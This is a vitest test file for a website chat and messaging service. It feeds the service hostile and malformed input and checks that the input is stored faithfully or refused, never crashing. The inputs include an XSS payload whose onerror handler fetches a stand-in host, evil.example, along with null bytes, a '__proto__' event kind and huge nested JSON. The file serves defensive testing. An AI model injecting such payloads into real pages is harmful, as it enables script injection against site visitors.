import { describe, expect, test } from 'vitest';
import { cleanText } from '#server/conversations/clean.ts';
import { newId } from '#server/platform/ids.ts';
import { type Firm, openFirm, origin, sharedPatto } from './support/firm.ts';
import { naughty } from './support/hostile.ts';
import { chat, comment, connectWebsite, hear } from './support/talk.ts';
import { knocker, problemIn } from './support/visitor.ts';

const patto = sharedPatto({ workers: false });
const words = [
  ...naughty(),
  '<img src=x onerror="fetch(`//evil.example`)"><b>grassetto</b>',
  'a\u0000b',
  'mezza \ud83d coppia',
  `${'👩‍👩‍👧‍👦'.repeat(700)}`,
  '\u202eal contrario\u202c',
];

async function osteria() {
  const firm = await openFirm(patto);
  const channelId = await connectWebsite(firm);
  return { firm, channelId };
}

/** Everything that was said in a conversation, first to last. */
async function textsIn({ owner }: Firm, id: string): Promise<string[]> {
  const texts: string[] = [];
  for (let before: string | undefined, more = true; more; ) {
    const { items, olderCursor } = await owner.conversations.get({ id, ...(before && { before }) });
    texts.unshift(...items.map((one) => one.text));
    before = olderCursor ?? undefined;
    more = before !== undefined;
  }
  return texts;
}

async function onlyConversation({ owner }: Firm): Promise<string> {
  const { items } = await owner.conversations.list({ view: 'all', limit: 100 });
  expect(items).toHaveLength(1);
  return items[0]?.id ?? '';
}

describe('words that break programs', () => {
  test('said in the chat of the site: kept and shown as they were written, or refused as empty', async () => {
    const { firm, channelId } = await osteria();
    const { visitor, say, thread } = knocker(patto, { ...firm, channelId });
    const { authorization } = await visitor();
    const kept: string[] = [];
    for (const text of words) {
      patto.clock.turn(5000);
      const response = await say(authorization, { kind: 'chat', text });
      if (response.status === 202) kept.push(cleanText(text));
      else expect(await problemIn(response), text).toMatchObject({ code: 'text_empty' });
    }
    expect(kept.length).toBeGreaterThan(words.length - 10);
    await patto.run('intake', firm.workspaceId, { channelId });
    expect(await textsIn(firm, await onlyConversation(firm))).toEqual(kept);
    const seen = (await thread('', authorization)).chat?.items.map((one) => one.text) ?? [];
    expect(seen).toEqual(kept.slice(-seen.length));
    expect(seen.length).toBeGreaterThan(10);
  });

  test('answered by a member: sent and shown as they were written, or refused', async () => {
    const { firm, channelId } = await osteria();
    await hear(firm, channelId, [chat('Mi mandi qualcosa?')]);
    const id = await onlyConversation(firm);
    const kept: string[] = [];
    for (const text of words) {
      await firm.owner.conversations.reply({ id, text, key: newId() }).then(
        (message) => kept.push(message.text),
        (no) =>
          expect(no, text).toMatchObject({ code: expect.stringMatching(/text_empty|invalid/) }),
      );
    }
    const wanted = words.map(cleanText).map((text) => text.trim());
    const missing = wanted.filter((text) => text && !kept.some((one) => one.trim() === text));
    expect(missing.filter((text) => /[^\s\p{C}]/u.test(text))).toEqual([]);
    expect((await textsIn(firm, id)).slice(1)).toEqual(kept);
  });

  test('as names, titles and queries: shown as they are, or refused; never a crash', async () => {
    const { firm, channelId } = await osteria();
    const said = words.slice(0, 120).map((name, n) =>
      comment(`Ciao ${n}`, {
        visitor: { id: `v${n}`, name },
        page: { url: `https://osteria.example/${n}`, title: name },
      }),
    );
    await hear(firm, channelId, said);
    const { items } = await firm.owner.conversations.list({ view: 'all', limit: 100 });
    expect(items).toHaveLength(100);
    for (const q of words.slice(0, 120)) {
      const found = await firm.owner.conversations.search({ q }).catch((no) => no);
      expect(found.items ?? found.code, q).toEqual(found.items ? expect.any(Array) : 'invalid');
      const people = await firm.owner.people.list({ search: q }).catch((no) => no);
      expect(people.items ?? people.code, q).toEqual(people.items ? expect.any(Array) : 'invalid');
    }
    expect((await firm.owner.channels.deadLetters({})).items).toEqual([]);
  });
});

describe('events that a network should not send', () => {
  test('unknown kinds are kept and counted, broken ones buried with their reason; what follows is read', async () => {
    const { firm, channelId } = await osteria();
    const broken = [
      null,
      5,
      'ciao',
      [],
      {},
      { kind: 'comment' },
      { kind: 'chat', id: 'x', visitor: null },
    ];
    const strange = [{ kind: 'dance', id: 'd1' }, { kind: '__proto__' }, { kind: 'comment\u0000' }];
    const wrong = [comment(5 as never), comment(null as never), comment({ html: '<b>' } as never)];
    await hear(firm, channelId, [...broken, ...strange, ...wrong, comment('E dopo?')]);
    const { health } = await firm.owner.channels.get({ id: channelId });
    expect(health).toMatchObject({ state: 'working', waiting: 0 });
    const dead = (await firm.owner.channels.deadLetters({ channelId, limit: 100 })).items;
    expect(dead.length + health.unknownKinds).toBe(broken.length + strange.length + wrong.length);
    for (const { reason } of dead) expect(reason).toMatch(/a widget message without/);
    const [line] = (await firm.owner.conversations.list({ view: 'all' })).items;
    expect(line?.excerpt).toBe('E dopo?');
    await firm.owner.channels.retryDeadLetters({ channelId });
    await patto.run('intake', firm.workspaceId, { channelId });
    const again = (await firm.owner.channels.deadLetters({ channelId, limit: 100 })).items;
    expect(again).toHaveLength(dead.length);
  });

  test('a clock that runs ahead or makes no sense gives way to ours; a late message does not jump', async () => {
    const { firm, channelId } = await osteria();
    const now = patto.clock.now().toISOString();
    const wrong = [
      '2099-01-01T00:00:00Z',
      '+275760-09-13T00:00:00Z',
      '1969-01-01T00:00:00Z',
      'ieri',
      '',
    ];
    await hear(firm, channelId, [
      ...wrong.map((sentAt) => chat(`il ${sentAt}`, { sentAt })),
      chat('il mese scorso', { sentAt: '2026-10-22T12:00:00Z' }),
    ]);
    const id = await onlyConversation(firm);
    const { items } = await firm.owner.conversations.get({ id });
    expect(items[0]).toMatchObject({ text: 'il mese scorso', sentAt: '2026-10-22T12:00:00.000Z' });
    expect(items.slice(1).map((one) => one.sentAt)).toEqual(wrong.map(() => now));
    expect(await firm.owner.conversations.get({ id })).toMatchObject({ lastMessageAt: now });
  });

  test('20,000 characters come in whole; a text without end is cut and says so; nesting without end is refused', async () => {
    const { firm, channelId } = await osteria();
    const long = 'Perché? '.repeat(2500);
    await hear(firm, channelId, [chat(long), chat('è'.repeat(2_000_000))]);
    const texts = await textsIn(firm, await onlyConversation(firm));
    expect(texts[0]).toBe(long);
    expect(texts[1]).toBe(`${'è'.repeat(100_000)}…`);
    const deep = `{"network":"website","name":"x","settings":{"a":${'['.repeat(50_000)}${']'.repeat(50_000)}}}`;
    const headers = {
      origin,
      cookie: firm.cookie,
      'patto-workspace': firm.workspaceId,
      'content-type': 'application/json',
    };
    const response = await patto.request('/api/channels', { method: 'POST', headers, body: deep });
    expect(await problemIn(response)).toMatchObject({ status: 422, code: 'invalid' });
  });
});
